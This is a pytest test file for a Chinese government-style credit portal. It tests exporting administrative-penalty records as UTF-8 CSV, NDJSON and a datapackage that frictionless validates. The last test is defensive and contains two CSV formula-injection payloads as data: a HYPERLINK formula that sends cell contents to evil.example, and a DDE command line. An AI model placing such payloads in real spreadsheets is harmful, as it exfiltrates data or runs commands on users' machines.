"""CSV (UTF-8 with BOM, Chinese headers), NDJSON and datapackage.json, checked with
frictionless itself."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import tempfile
from pathlib import Path
from typing import Any

import frictionless
import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from catalog import load_catalog
from portal import PublicTable, Role
from portal.files import datapackage, write_datapackage, write_tables
from publishers import neutralise

ENTRY = load_catalog()["administrative-penalty"]
TABLE = PublicTable(ENTRY)


def _view(i: int, **fields: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "record_id": f"administrative-penalty:{i:026d}",
        "dataset": ENTRY.id,
        "counterpart_name": f"武汉测试{i}有限公司",
        "counterpart_category": "法人及非法人组织",
        "uscc": "91420100MA4K0A1B6L",
        "decision_doc_no": f"武市监罚〔2026〕{i}号",
        "violation_type": "违反食品安全法",
        "violation_facts": "经查，当事人销售过期食品。",
        "legal_basis": "《中华人民共和国食品安全法》第一百二十四条",
        "penalty_categories": ["警告", "罚款"],
        "penalty_content": "罚款人民币五千元",
        "decision_date": "2026-05-01",
        "penalty_valid_to": "2027-05-01",
        "authority_name": "武汉市市场监督管理局",
        "authority_uscc": "11420100MB1320102J",
        "source_org_name": "武汉市市场监督管理局",
        "source_org_uscc": "11420100MB1320102J",
        "_meta": {
            "version": 1,
            "updated_at": "2026-05-02T01:00:00+00:00",
            "window_start": "2026-05-01",
            "window_end": "2027-05-01",
        },
    }
    return base | fields


def _package() -> dict[str, Any]:
    return {
        "name": "t-wuhan-credit-administrative-penalty",
        "title": "行政处罚",
        "notes": "说明",
        "license_id": "cc-by",
        "version": "1.0.0",
        "license_title": "Creative Commons Attribution",
        "license_url": "http://www.opendefinition.org/licenses/cc-by",
        "tags": [{"name": "行政处罚"}],
        "extras": [{"key": "title_en", "value": "Administrative penalty"}],
    }


def _names(role: Role, part: int) -> str:
    return f"penalty-{part}.{role.value}"


def _bundle(views: list[dict[str, Any]], directory: Path, max_bytes: int = 10**7) -> Path:
    """Write the files with relative paths into ``directory``; the descriptor's path."""
    with write_tables(TABLE, views, names=_names, max_bytes=max_bytes) as files:
        urls = {role: [g.path.name for g in files.parts[role]] for role in files.parts}
        descriptor = datapackage(TABLE, _package(), files, urls, homepage="http://x")
        write_datapackage(files, descriptor)
        for generated in (*files.parts[Role.CSV], *files.parts[Role.NDJSON]):
            shutil.copy(generated.path, directory / generated.path.name)
        assert files.datapackage is not None
        shutil.copy(files.datapackage.path, directory / "datapackage.json")
    return directory / "datapackage.json"


def test_csv_opens_in_excel_and_ndjson_keeps_arrays(tmp_path: Path) -> None:
    views = [_view(i) for i in range(1, 4)]
    with write_tables(TABLE, views, names=_names) as files:
        data = files.parts[Role.CSV][0].path.read_bytes()
        lines = files.parts[Role.NDJSON][0].path.read_bytes().splitlines()
        assert files.rows == 3 and len(files.parts[Role.CSV]) == 1
        for generated in (*files.parts[Role.CSV], *files.parts[Role.NDJSON]):
            body = generated.path.read_bytes()
            assert generated.size == len(body)
            assert generated.hash == f"sha256:{hashlib.sha256(body).hexdigest()}"
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header[:3] == ["记录标识", "行政相对人名称", "行政相对人类别"]
    assert header == [c.label for c in TABLE.columns]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0]["处罚类别"] == "警告;罚款"
    assert rows[0]["异议处理中"] == "false" and rows[0]["异议状态"] == ""
    # each NDJSON line is the public view itself, byte for byte as the REST download has it
    assert lines == [orjson.dumps(v) for v in views]
    first = json.loads(lines[0])
    assert first["penalty_categories"] == ["警告", "罚款"] and "org_code" not in first


def test_the_datapackage_validates_with_frictionless(tmp_path: Path) -> None:
    descriptor = _bundle([_view(i) for i in range(1, 6)], tmp_path)
    report = frictionless.validate(str(descriptor))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = json.loads(descriptor.read_text("utf-8"))
    assert package["resources"][0]["schema"]["primaryKey"] == ["记录标识"]
    assert package["resources"][1]["schema"]["primaryKey"] == ["record_id"]
    assert package["x-record-count"] == 5


def test_a_large_table_is_split_into_complete_parts(tmp_path: Path) -> None:
    views = [_view(i) for i in range(1, 41)]
    descriptor = _bundle(views, tmp_path, max_bytes=8_000)
    package = json.loads(descriptor.read_text("utf-8"))
    csv_parts = [r for r in package["resources"] if r["format"] == "csv"]
    nd_parts = [r for r in package["resources"] if r["format"] == "ndjson"]
    assert len(csv_parts) > 2 and len(nd_parts) > len(csv_parts)
    rows: list[str] = []
    for resource in csv_parts:
        data = (tmp_path / resource["path"]).read_bytes()
        assert len(data) <= 8_000 and data.startswith(b"\xef\xbb\xbf")  # each opens in Excel
        rows += [r["记录标识"] for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))]
    assert rows == [v["record_id"] for v in views]
    assert sum(r["x-part"]["rows"] for r in nd_parts) == 40
    report = frictionless.validate(str(descriptor))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_frictionless_catches_a_file_that_breaks_its_schema(tmp_path: Path) -> None:
    broken = [_view(1), _view(2, decision_date="2026-02-30"), _view(3, penalty_categories=["X"])]
    report = frictionless.validate(str(_bundle(broken, tmp_path)))
    assert not report.valid
    types = {e.type for task in report.tasks for e in task.errors}
    assert "type-error" in types or "constraint-error" in types


def test_a_failed_stream_leaves_no_files_behind() -> None:
    def views() -> Any:
        yield _view(1)
        raise RuntimeError("store went away")

    before = set(Path(tempfile.gettempdir()).glob("creditgate-portal-*"))
    with pytest.raises(RuntimeError):
        write_tables(TABLE, views(), names=_names)
    after = set(Path(tempfile.gettempdir()).glob("creditgate-portal-*"))
    assert after == before


_cell_text = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters=";")
    | st.sampled_from([",", '"', "\n", "\r", "，", "“"]),
    min_size=1,
    max_size=40,
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(_cell_text, _cell_text), min_size=1, max_size=5))
def test_any_text_survives_the_csv_and_ndjson(values: list[tuple[str, str]]) -> None:
    views = [_view(i, violation_facts=a, penalty_content=b) for i, (a, b) in enumerate(values)]
    with write_tables(TABLE, views, names=_names) as files:
        data = files.parts[Role.CSV][0].path.read_bytes().decode("utf-8-sig")
        lines = files.parts[Role.NDJSON][0].path.read_text("utf-8").splitlines()
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    # formula-like cells carry OWASP's leading quote in CSV (issue 15); NDJSON is verbatim
    assert [(r["违法事实"], r["处罚内容"]) for r in rows] == [
        (neutralise(a), neutralise(b)) for a, b in values
    ]
    objects = [json.loads(line) for line in lines]
    assert [(o["violation_facts"], o["penalty_content"]) for o in objects] == values


def test_formulas_are_neutralised_in_the_csv_files() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    views = [_view(1, violation_facts=formula, penalty_content="-cmd|' /C calc'!A0")]
    with write_tables(TABLE, views, names=_names) as files:
        data = files.parts[Role.CSV][0].path.read_bytes().decode("utf-8-sig")
        line = files.parts[Role.NDJSON][0].path.read_text("utf-8")
    row = next(csv.DictReader(io.StringIO(data, newline="")))
    assert row["违法事实"] == "'" + formula and row["处罚内容"] == "'-cmd|' /C calc'!A0"
    assert json.loads(line)["violation_facts"] == formula
